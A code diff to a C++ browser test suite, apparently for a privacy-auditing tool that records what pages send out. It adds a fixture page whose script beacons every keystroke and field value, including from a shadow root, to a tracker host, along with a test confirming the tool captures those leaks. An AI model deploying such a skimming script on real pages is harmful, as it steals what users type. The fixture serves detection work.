@@ -66,6 +66,10 @@ std::map<std::string, Served> site(int port) {
           {"track.test/code.js", {"text/javascript", "window.tracked = true; document.title += ' ✓'"}},
           {"clean.test/", {"text/html", "<title>Clean</title><link rel=stylesheet href='http://fonts.test" + end + "a.css'><img src=/map.png><script>fetch('/count', {method: 'POST', body: 'own'})</script>"}},
           {"fonts.test/a.css", {"text/css", "body { color: black }"}},
+          {"page.test/fields", {"text/html", "<input id=offence><input type=email name=mail><input type=hidden name=h><textarea></textarea><input type=tel disabled>"
+                                             "<div id=d></div><script>const s = d.attachShadow({mode: 'open'}); s.innerHTML = '<input id=inner>';"
+                                             "const tell = how => e => navigator.sendBeacon('" + tracker + "' + how, (e.composedPath()[0].id || e.target.name) + '=' + e.composedPath()[0].value);"
+                                             "addEventListener('input', tell('typed')); addEventListener('focusout', tell('left'))</script>"}},
           {"page.test/moved", {"", "", 302, "http://page.test" + end + "clean"}},
           {"page.test/clean", {"text/html", "<title>There</title>"}}};
 }
@@ -78,11 +82,11 @@ class Web {
   }
   WebServer& operator*() { return *server_; }
   WebServer* operator->() { return server_.get(); }
-  BrowserOptions options(Outside outside) const {
+  BrowserOptions options(Outside outside, int quiet = 1200) const {
     BrowserOptions out;
     out.arguments = {"--host-resolver-rules=MAP *.test 127.0.0.1", "--unsafely-treat-insecure-origin-as-secure=" + server_->url("page.test", "")};
     out.outside = outside;
-    out.quiet = std::chrono::milliseconds(2500);
+    out.quiet = std::chrono::milliseconds(quiet);
     out.owner = [](std::string_view host) { return std::string(host); };
     return out;
   }
@@ -116,7 +120,7 @@ const Exchange* find(const Recording& recording, const std::string& path) {
 
 TEST(Browser, EveryByteThatAServerReceivedIsInTheRecording) {
   Web web;
-  const auto recording = visit({web->url("page.test")}, web.options(Outside::kAll));
+  const auto recording = visit({web->url("page.test")}, web.options(Outside::kAll, 2500));
   ASSERT_TRUE(recording) << recording.error().text();
   EXPECT_THAT(recording->unread, testing::IsEmpty());
   const Told recorded = told(recording->exchanges);
@@ -134,7 +138,7 @@ TEST(Browser, EveryByteThatAServerReceivedIsInTheRecording) {
 
 TEST(Browser, NothingLeavesAndNothingIsMissingWhenAnsweredHere) {
   Web web;
-  const auto recording = visit({web->url("page.test")}, web.options(Outside::kCode));
+  const auto recording = visit({web->url("page.test")}, web.options(Outside::kCode, 2500));
   ASSERT_TRUE(recording) << recording.error().text();
   EXPECT_THAT(recording->unread, testing::IsEmpty());
   std::set<std::string> paths;
@@ -185,6 +189,29 @@ TEST(Browser, PagesAreKeptApartAndCleanOnesStayClean) {
   }
   EXPECT_TRUE(own);
   EXPECT_THAT(recording->notes, testing::Not(testing::Contains(testing::HasSubstr("answered by this program"))));
+}
+
+TEST(Browser, EveryFieldIsTypedIntoOnceAndNothingSubmitted) {
+  Web web;
+  std::vector<Typed> typed;
+  const auto recording = visit({web->url("page.test", "/fields")}, web.options(Outside::kCode), &typed);
+  ASSERT_TRUE(recording) << recording.error().text();
+  ASSERT_EQ(typed.size(), 4U);  // neither the hidden nor the disabled one
+  EXPECT_EQ(typed[0].field, "#offence");
+  EXPECT_EQ(typed[1].field, "name=mail");
+  EXPECT_THAT(typed[1].value, testing::EndsWith("@example.org"));
+  EXPECT_EQ(typed[2].field, "textarea field 3");
+  EXPECT_EQ(typed[3].field, "#inner");
+  std::set<std::string> values;
+  for (const Typed& each : typed) values.insert(each.value);
+  EXPECT_EQ(values.size(), typed.size());
+  const Told all = told(recording->exchanges);
+  EXPECT_EQ(all.count({"typed", "offence=" + typed[0].value}), 1U);
+  EXPECT_EQ(all.count({"left", "offence=" + typed[0].value}), 1U);
+  EXPECT_EQ(all.count({"typed", "inner=" + typed[3].value}), 1U);
+  ASSERT_NE(find(*recording, "typed"), nullptr);
+  EXPECT_EQ(find(*recording, "typed")->step, "type into #offence");
+  for (const Arrived& each : web->arrived()) EXPECT_EQ(path_of(each.url), "");
 }
 
 TEST(Browser, NothingIsLeftBehind) {
